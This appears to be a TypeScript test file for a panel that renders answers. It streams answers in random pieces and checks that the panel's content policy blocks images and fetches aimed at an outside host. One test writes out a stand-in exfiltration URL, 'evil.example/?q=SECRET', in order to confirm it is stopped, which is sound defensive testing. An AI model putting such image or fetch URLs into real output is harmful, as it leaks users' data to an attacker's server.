import { createRandom } from '../../bench/random.ts';
import { expect } from '../support/test.ts';
import { testAnswers } from './test-answers.ts';
import { test } from './test.ts';

// Longer than a frame, so that each piece is seen by itself.
test.use({ pace: 20 });

/** Pieces that an answer is cut into: enough to cut any tag, link or fence of a short one. */
const MOST_PIECES = 12;

/** A text in pieces, cut at random; the same for the same text. */
function inPieces(text: string): readonly string[] {
  const random = createRandom(text.length);
  const cuts = Array.from({ length: random.below(MOST_PIECES) + 1 }, () => random.below(text.length));
  const places = [0, ...new Set(cuts), text.length].toSorted((a, b) => a - b);
  return places.slice(1).map((end, index) => text.slice(places[index], end));
}

testAnswers('in pieces', inPieces);

test('what an answer would load from outside, the panel’s policy would stop', async ({
  panel,
  sidenote,
  outside,
}) => {
  const load = (url: string) =>
    panel.evaluate(async (address) => {
      const image = new Image();
      const isShown = new Promise((resolve) => {
        image.addEventListener('load', () => resolve('shown'));
        image.addEventListener('error', () => resolve('not shown'));
      });
      image.src = address;
      return [await isShown, await fetch(address).catch(() => 'not fetched')];
    }, url);
  for (const scheme of ['http', 'https'])
    expect(await load(`${scheme}://evil.example/?q=SECRET`)).toEqual(['not shown', 'not fetched']);
  expect(outside.asked).toEqual([]);
  // That the proxy sees what a web page asks for shows that it sees everything.
  const page = await sidenote.context.newPage();
  await page.goto('https://evil.example/').catch(() => undefined);
  expect(outside.asked).toContain('evil.example:443');
});
